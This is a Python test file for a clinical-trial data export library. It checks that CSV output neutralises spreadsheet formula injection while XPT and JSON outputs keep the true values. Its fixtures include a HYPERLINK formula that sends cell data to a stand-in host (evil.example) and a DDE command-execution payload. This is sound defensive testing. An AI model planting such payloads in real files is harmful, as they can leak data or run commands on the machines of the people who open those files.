"""Formula injection (OWASP): text a spreadsheet would run as a formula is written with a
leading quote in every CSV meant for spreadsheets, numbers stay numbers, and the formats read by
programs (XPT, Dataset-JSON) keep the true value."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pyreadstat
import pytest
from exchange_trial import build_trial_data

from alstrial.exchange.csv_export import UNCODED, write_tidy_csv
from alstrial.exchange.sdtm_write import write_sdtm
from alstrial.exchange.spreadsheet import (
    spreadsheet_cell,
    spreadsheet_frame,
    spreadsheet_row,
    write_csv,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "typed",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "-", "=", "+x"],
)
def test_formula_starts_get_a_quote(typed):
    assert spreadsheet_cell(typed) == "'" + typed


@pytest.mark.parametrize("kept", ["-1.5", "+3", "-12", "1e-3", "-2.5E+4", "headache", "", " =x"])
def test_numbers_and_plain_text_are_unchanged(kept):
    assert spreadsheet_cell(kept) == kept


def test_non_text_cells_are_unchanged():
    assert spreadsheet_cell(-1.5) == -1.5
    assert spreadsheet_cell(None) is None
    assert spreadsheet_row([FORMULA, -3, "ok"]) == ["'" + FORMULA, -3, "ok"]
    frame = pd.DataFrame({"text": [FORMULA, "ok"], "number": [-1.5, 2.0]})
    safe = spreadsheet_frame(frame)
    assert list(safe["text"]) == ["'" + FORMULA, "ok"]
    assert safe["number"].tolist() == [-1.5, 2.0]
    assert frame["text"][0] == FORMULA  # the caller's frame is untouched


def test_written_csv_reads_back_quoted():
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"reason": [FORMULA, "-1.5"], "value": [-1.5, 3.0]}), buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["reason", "value"], ["'" + FORMULA, "-1.5"], ["-1.5", "3.0"]]


def test_sdtm_csv_is_neutralised_but_xpt_and_json_keep_the_true_value(tmp_path):
    data = build_trial_data()
    data.frames["adverse_events"].loc[0, "verbatim_term"] = FORMULA
    write_sdtm(data, tmp_path, xpt=True)
    ae_csv = pd.read_csv(tmp_path / "ae.csv", dtype=str, keep_default_na=False)
    assert ae_csv.loc[ae_csv["AESPID"] == "1", "AETERM"].iloc[0] == "'" + FORMULA
    ae_xpt, _ = pyreadstat.read_xport(tmp_path / "ae.xpt")
    assert ae_xpt.loc[ae_xpt["AESPID"] == "1", "AETERM"].iloc[0] == FORMULA
    ae_json = json.loads((tmp_path / "ae.json").read_text())
    column = [c["name"] for c in ae_json["columns"]].index("AETERM")
    assert ae_json["rows"][0][column] == FORMULA


def test_statisticians_csv_carries_coded_terms_only(tmp_path):
    data = build_trial_data()
    aes = data.frames["adverse_events"]
    aes["term_code"] = aes["term_code"].astype(object)
    aes["coded_term"] = aes["coded_term"].astype(object)
    aes.loc[0, ["verbatim_term", "term", "term_code"]] = [FORMULA, FORMULA, ""]
    aes.loc[1, ["verbatim_term", "term", "term_code"]] = ["my head, Seoul", "Headache", "AE0007"]
    write_tidy_csv(data, tmp_path)
    text = (tmp_path / "adverse_events.csv").read_text()
    assert "HYPERLINK" not in text
    assert "Seoul" not in text
    written = pd.read_csv(tmp_path / "adverse_events.csv", dtype=str, keep_default_na=False)
    assert written.loc[0, "term"] == UNCODED
    assert written.loc[1, "term"] == "Headache"
    assert "verbatim_term" not in written.columns
